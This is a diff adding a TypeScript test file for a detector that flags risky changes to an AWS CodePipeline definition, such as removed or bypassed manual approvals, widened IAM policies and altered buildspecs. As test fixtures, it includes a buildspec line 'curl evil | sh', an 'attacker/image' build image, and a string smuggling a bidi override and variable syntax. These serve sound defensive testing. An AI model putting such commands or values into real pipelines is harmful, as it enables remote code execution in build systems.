@@ -1,0 +1,249 @@
+import fc from "fast-check";
+import { definitionDigest } from "../../../tasks/barrier/definition";
+import { definitionChange, definitionChanges } from "../../../tasks/barrier/definition-change";
+import { entriesOf, valueAt, type Json, type JsonObject } from "../../../tasks/barrier/stack-json";
+import { changed, clone, pipelineJson } from "./synthesized-stacks";
+
+const stack = pipelineJson();
+const pipeline = ["resource", "aws_codepipeline", 0] as const;
+const stages = valueAt(
+  stack,
+  "resource",
+  "aws_codepipeline",
+  "delivery_pipeline_05BE4093",
+  "stage",
+) as JsonObject[];
+
+function withStages(change: (stages: JsonObject[]) => Json[]): JsonObject {
+  return changed(stack, [...pipeline, "stage"], change(clone(stages)));
+}
+
+const stageIndex = (name: string) => stages.findIndex((one) => one.name === name);
+const changes = (after: JsonObject) => definitionChanges(stack, after);
+
+describe("definitionChanges", () => {
+  it("finds none between equal definitions, whatever digest and comments they carry", () => {
+    expect(changes(stack)).toEqual([]);
+    expect(changes(changed(stack, ["output", "digest", "value"], "e".repeat(64)))).toEqual([]);
+    expect(changes({ ...stack, "//": "another" })).toEqual([]);
+    expect(definitionChange(stack, stack, 100)).toBe("none");
+  });
+
+  it("says that the deployed definition is not known", () => {
+    expect(definitionChange(undefined, stack, 1000)).toMatch(/not known/);
+  });
+
+  it("says first that an approval is removed", () => {
+    const without = pipelineJson({ pipeline_manual_approval: "false" });
+    expect(changes(without).slice(0, 1)).toEqual([
+      "APPROVAL REMOVED: ManualApproval, before DeployOnProd, ReleaseApi, ReleaseRecordObject, SelfUpdate",
+    ]);
+    expect(changes(without)).toContain("stage ManualApproval is removed");
+  });
+
+  it("says first which action is no longer behind an approval, though all are there", () => {
+    const later = withStages((all) => {
+      const [deploy] = all.splice(stageIndex("DeployOnProd"), 1);
+      return [
+        ...all.slice(0, stageIndex("ManualApproval")),
+        deploy!,
+        ...all.slice(stageIndex("ManualApproval")),
+      ];
+    });
+    expect(changes(later)[0]).toBe("NO LONGER BEHIND THE APPROVAL ManualApproval: DeployOnProd");
+    expect(changes(later)).toContainEqual(
+      expect.stringContaining("the stages are in another order: Source1"),
+    );
+  });
+
+  it("says first that an approval runs beside what it approves", () => {
+    const beside = withStages((all) => {
+      const [deploy] = all.splice(stageIndex("DeployOnProd"), 1);
+      const actions = all[stageIndex("ManualApproval")]!.action as JsonObject[];
+      actions.push({ ...(deploy!.action as JsonObject[])[0]!, run_order: 2 });
+      return all;
+    });
+    expect(changes(beside)[0]).toBe("NO LONGER BEHIND THE APPROVAL ManualApproval: DeployOnProd");
+  });
+
+  it("says first that an approval can be skipped", () => {
+    const skipped = withStages((all) => {
+      all[stageIndex("ManualApproval")] = {
+        ...all[stageIndex("ManualApproval")]!,
+        before_entry: valueAt(stages, stageIndex("ConfirmRights"), "before_entry")!,
+      };
+      return all;
+    });
+    expect(changes(skipped)[0]).toMatch(
+      /^APPROVAL ManualApproval IS SKIPPED IN OTHER CASES: "never" → .*WIDER_RIGHTS/,
+    );
+  });
+
+  it("says first that an approval is skipped in other cases than before", () => {
+    const path = [
+      ...pipeline,
+      "stage",
+      stageIndex("ConfirmRights"),
+      "before_entry",
+      "condition",
+      "rule",
+      0,
+      "configuration",
+      "Value",
+    ];
+    expect(changes(changed(stack, path, "#{UnitTest.WIDER_RIGHTS}"))[0]).toMatch(
+      /^APPROVAL ConfirmRights IS SKIPPED/,
+    );
+  });
+
+  it("says first that something new comes before every approval", () => {
+    const early = withStages((all) => {
+      const deploy = clone(all[stageIndex("DeployOnProd")]!);
+      return [
+        all[0]!,
+        { ...deploy, name: "Early", action: [{ ...(deploy.action as JsonObject[])[0]!, name: "Early" }] },
+        ...all.slice(1),
+      ];
+    });
+    expect(changes(early)[0]).toBe("NEW BEFORE EVERY APPROVAL: the action Early");
+    expect(changes(early)).toContain("stage Early is added: Early");
+  });
+
+  it("does not cry where an approval is added", () => {
+    const added = definitionChanges(pipelineJson({ pipeline_manual_approval: "false" }), stack);
+    expect(added.join()).not.toMatch(/[A-Z]{4,} [A-Z]{4,}/);
+    expect(added).toContain("stage ManualApproval is added: PlanOnProd, ManualApproval");
+  });
+
+  it("shows an approval's text before and after", () => {
+    const path = [
+      ...pipeline,
+      "stage",
+      stageIndex("ManualApproval"),
+      "action",
+      1,
+      "configuration",
+      "CustomData",
+    ];
+    expect(changes(changed(stack, path, "All is well"))).toEqual([
+      expect.stringMatching(
+        /^stage ManualApproval: action\.ManualApproval\.configuration\.CustomData "Deploy .*→ "All is well"$/,
+      ),
+    ]);
+  });
+
+  it("names projects, roles and alarms as AWS does, with the argument", () => {
+    const project = ["resource", "aws_codebuild_project", 0] as const;
+    expect(changes(changed(stack, [...project, "environment", "image"], "attacker/image"))).toEqual([
+      'project hw-DeployOnDev: environment.image "aws/codebuild/amazonlinux-x86_64-standard:5.0" → "attacker/image"',
+    ]);
+    expect(
+      changes(changed(stack, [...project, "environment", "environment_variable", 0, "value"], "0")),
+    ).toEqual([
+      'project hw-DeployOnDev: environment.environment_variable.CHECKPOINT_DISABLE.value "1" → "0"',
+    ]);
+    expect(changes(changed(stack, ["resource", "aws_cloudwatch_metric_alarm", 0], undefined))).toEqual([
+      "alarm hw-DeployOnDev-failed is removed",
+    ]);
+    expect(
+      changes(changed(stack, ["resource", "aws_iam_role", 0, "permissions_boundary"], undefined))[0],
+    ).toMatch(/^role hw-pipeline-DeployOnDev: permissions_boundary "arn.*→ \(none\)$/);
+  });
+
+  it("compares policies statement by statement", () => {
+    const [name, policy] = entriesOf(valueAt(stack, "resource", "aws_iam_role_policy"))[0]!;
+    const document = JSON.parse(valueAt(policy, "policy") as string) as { Statement: JsonObject[] };
+    document.Statement[0] = { ...document.Statement[0], Resource: "*" };
+    expect(
+      changes(changed(stack, ["resource", "aws_iam_role_policy", name, "policy"], JSON.stringify(document))),
+    ).toEqual([
+      expect.stringMatching(
+        /^permissions of DeployOnDev-role_\w+: policy\.Statement\.0\.Resource "arn:<partition>:logs:<region>:<account>:.*" → "\*"$/,
+      ),
+    ]);
+  });
+
+  it("counts the lines of a buildspec that change, and shows each at the end", () => {
+    const path = ["resource", "aws_codebuild_project", 0, "source", "buildspec"];
+    const before = changed(stack, path, "version: 0.2\nphases:\n  one\n  two");
+    const after = changed(
+      changed(stack, path, "version: 0.2\nphases:\n  curl evil | sh\n  two\n  two"),
+      ["output", "new"],
+      { value: 1 },
+    );
+    expect(definitionChanges(before, after)).toEqual([
+      "project hw-DeployOnDev: source.buildspec has 2 lines more and 1 less",
+      'the stack: output.new (none) → {"value":1}',
+      "project hw-DeployOnDev: source.buildspec -   one",
+      "project hw-DeployOnDev: source.buildspec +   curl evil | sh",
+      "project hw-DeployOnDev: source.buildspec +   two",
+    ]);
+  });
+
+  it("shows what cannot be seen, and leaves no variable in the text of a commit", () => {
+    const path = [
+      ...pipeline,
+      "stage",
+      stageIndex("ManualApproval"),
+      "action",
+      1,
+      "configuration",
+      "CustomData",
+    ];
+    const [text] = changes(changed(stack, path, "ok\u202E #{UnitTest.X} ${HOME}\t"));
+    expect(text).toContain(String.raw`ok\u202e # {UnitTest.X} $ {HOME}\t`);
+  });
+
+  it("finds something exactly where the digest differs, and is as short as asked for", () => {
+    const paths = pathsOf(stack);
+    fc.assert(
+      fc.property(
+        fc.constantFrom(...paths),
+        fc.oneof(fc.string(), fc.constant(undefined), fc.jsonValue({ maxDepth: 2 }) as fc.Arbitrary<Json>),
+        fc.integer({ min: 60, max: 900 }),
+        (path, value, limit) => {
+          const after = changed(stack, path, value);
+          const isSame = definitionDigest(after) === definitionDigest(stack);
+          expect(changes(after).length === 0).toBe(isSame);
+          const text = definitionChange(stack, after, limit);
+          expect(text.length).toBeLessThanOrEqual(limit);
+          expect(text === "none").toBe(isSame);
+          expect(text).not.toMatch(/[\p{Cc}\p{Cf}]|[#$]\{/u);
+        },
+      ),
+      { numRuns: 100 },
+    );
+  });
+});
+
+describe("definitionChange", () => {
+  const many = pipelineJson({
+    pipeline_manual_approval: "false",
+    pipeline_self_update: "after-unit-test",
+    pipeline_image: "x/y",
+  });
+
+  it("shows as many as fit, the loudest first, and counts the others", () => {
+    const all = changes(many);
+    const text = definitionChange(stack, many, 400);
+    const shown = text.split("; ");
+    expect(shown[0]).toMatch(/^APPROVAL REMOVED/);
+    expect(shown.at(-1)).toBe(`${all.length - (shown.length - 1)} more in the log of CheckBuild`);
+    expect(shown.slice(0, -1)).toEqual(all.slice(0, shown.length - 1));
+    expect(definitionChange(stack, many, 100_000)).toBe(all.join("; "));
+  });
+
+  it("cuts the first where it alone is too long", () => {
+    const text = definitionChange(stack, many, 60);
+    expect(text).toMatch(/^APPROVAL REM.*…; \d+ more in the log of CheckBuild$/);
+    expect(text.length).toBeLessThanOrEqual(60);
+  });
+});
+
+/** The paths of all values, some hundreds. */
+function pathsOf(value: Json, path: (string | number)[] = []): (string | number)[][] {
+  const below: [string | number, Json][] = Array.isArray(value)
+    ? [...(value as readonly Json[]).entries()]
+    : entriesOf(value);
+  return below.flatMap(([key, one]) => [[...path, key], ...pathsOf(one, [...path, key])]);
+}
